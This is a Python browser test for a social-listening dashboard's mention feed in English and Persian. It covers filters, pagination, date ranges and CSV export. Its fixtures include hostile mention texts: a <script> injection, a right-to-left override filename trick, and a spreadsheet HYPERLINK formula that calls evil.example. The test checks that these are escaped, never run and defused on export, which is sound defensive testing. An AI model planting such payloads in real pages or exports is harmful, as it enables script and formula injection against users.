"""The mention feed in headless Chromium (Debian's package), in English and Persian: filters
by query, sentiment, language and text, pagination, and hostile mention texts (``<script>``,
a right-to-left override, a spreadsheet formula) shown as text, never run, exported defused.

Data (workspace ``feed``), counted by hand: 55 mentions ``m00``…``m54`` an hour apart from
2024-04-01 — every fifth (k = 0, 5, …, 50: 11) says "acme refund" and is negative, the other 44
"coffee chat" and positive — and 4 hostile ones that all name acme (one Persian): 59 mentions,
15 match the query ``acme``, 12 are negative, 11 contain "refund", 1 is Persian.
"""

from __future__ import annotations

import datetime as dt
import re

import pytest

from browser_pages import browser, page, require_chromium  # noqa: F401
from test_web_listening_browser import SHOTS, login
from test_web_support import build_data, make_app

pytestmark = pytest.mark.browser
START = dt.datetime(2024, 4, 1, 0, 0)
SCRIPT = "<script>window.__xss = 31</script> acme"
RLO = "acme \u202etxt.exe\u202c reversed"
FORMULA = '=HYPERLINK("http://evil.example/?x","acme")'
PERSIAN = "قهوه acme می\u200cخواهم"


def feed_rows() -> list[dict]:
    rows = []
    for k in range(55):
        loud = k % 5 == 0
        rows.append(
            {
                "platform": "x",
                "mention_id": f"m{k:02d}",
                "created_at": START + dt.timedelta(hours=k),
                "text": f"acme refund {k}" if loud else f"coffee chat {k}",
                "author_handle": f"user{k}",
                "reach": k,
                "sentiment": "negative" if loud else "positive",
                "language": "en",
            }
        )
    for n, (text, sentiment, language) in enumerate(
        [(SCRIPT, "negative", "en"), (RLO, "neutral", "en"), (FORMULA, "neutral", "en"),
         (PERSIAN, "positive", "fa")]
    ):  # fmt: skip
        rows.append(
            {
                "platform": "x",
                "mention_id": f"h{n}",
                "created_at": START + dt.timedelta(days=5, hours=n),  # newest: page 1
                "text": text,
                "author_handle": f"<b>h{n}</b>",
                "reach": 1,
                "sentiment": sentiment,
                "language": language,
            }
        )
    return rows


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    require_chromium()
    from engagelens.api import Control
    from engagelens.api.testing import live_server
    from engagelens.listening import add_query, run
    from engagelens.store import Store

    data_dir = tmp_path_factory.mktemp("web-feed")
    build_data(data_dir)
    control = Control(data_dir)
    control.create_workspace("feed", "Feed")
    with Store.open(control.workspace_path("feed")) as store:
        store.insert("mention", feed_rows())
        add_query(store, "acme", "acme")
        run(store)
    control.grant("alice", "feed", "viewer")
    with live_server(make_app(data_dir)) as url:
        yield url


ROWS = "table[data-table='mentions'] tbody tr"


def _apply(page, **choices: str) -> None:
    for key, value in choices.items():
        if key == "search":
            page.fill("#mention-search", value)
        else:
            page.select_option(f"#mention-{key}", value)
    page.click("#mention-apply")
    page.wait_for_load_state()


def _pager(page) -> str:
    return page.inner_text("#table-mentions .pager span")


@pytest.mark.parametrize("locale", ["en", "fa"])
def test_mention_feed(page, server, locale):
    login(page, server, locale)
    page.goto(server + "/w/feed/mentions")
    assert page.locator(ROWS).count() == 50
    if locale == "en":
        assert _pager(page) == "1–50 of 59"
    else:
        assert page.get_attribute("html", "dir") == "rtl"
        assert _pager(page) == "۱–۵۰ از ۵۹", _pager(page)
        when = page.locator(f"{ROWS} td").first.inner_text()
        assert not re.search("[0-9]", when), when
    # hostile texts: shown as text, nothing runs, the override stays inside its cell
    assert page.evaluate("typeof window.__xss") == "undefined"
    texts = page.locator(f"{ROWS} td.text bdi").all_inner_texts()
    assert SCRIPT in texts and FORMULA in texts and PERSIAN in texts
    rlo_row = page.locator(ROWS, has_text="reversed")
    cell = rlo_row.locator("td.text", has_text="reversed")
    assert cell.get_attribute("dir") == "auto" and cell.locator("bdi").inner_text() == RLO
    label = rlo_row.locator(".label").inner_text()
    assert label == ("neutral" if locale == "en" else "خنثی")
    assert "<b>h3</b>" in page.locator(ROWS).first.inner_text()  # newest; a name, escaped
    shot(page, f"dashboard_mentions_{locale}")
    page.click("#table-mentions a[rel='next']")
    page.wait_for_url("**offset=50**")
    assert page.locator(ROWS).count() == 9
    page.goto(server + "/w/feed/mentions")
    _apply(page, query="acme")
    assert page.locator(ROWS).count() == 15
    _apply(page, sentiment="negative")
    assert page.locator(ROWS).count() == 12  # acme refund ×11 and the script
    _apply(page, query="", sentiment="", search="REFUND")
    assert page.locator(ROWS).count() == 11
    _apply(page, search="%")  # a plain character, not a wildcard
    assert page.locator(ROWS).count() == 1 and page.locator(".empty").count() == 1
    assert page.locator("#mentions-empty").count() == 0  # filters, not an empty store
    _apply(page, search="", language="fa")
    assert page.locator(ROWS).count() == 1
    assert PERSIAN in page.locator(f"{ROWS} td.text bdi").all_inner_texts()
    # the date range of the filter bar applies (Apr 1: m00…m23)
    page.goto(server + "/w/feed/mentions?from=2024-04-01&to=2024-04-01")
    assert page.locator(ROWS).count() == 24
    # the export holds every row, the formula defused
    csv = page.request.get(server + "/w/feed/mentions?export=csv&table=mentions").text()
    assert csv.count("\n") == 60  # header + 59 rows
    assert "'=HYPERLINK(" in csv and "\n=HYPERLINK" not in csv
    assert page.evaluate("typeof window.__xss") == "undefined"
    assert not page.watch.errors, page.watch.errors
    assert not page.watch.dialogs


def shot(page, name: str) -> None:
    page.mouse.move(0, 0)  # no hover: Plotly's toolbar would cover the chart titles
    page.screenshot(path=str(SHOTS / f"{name}.png"), full_page=True)
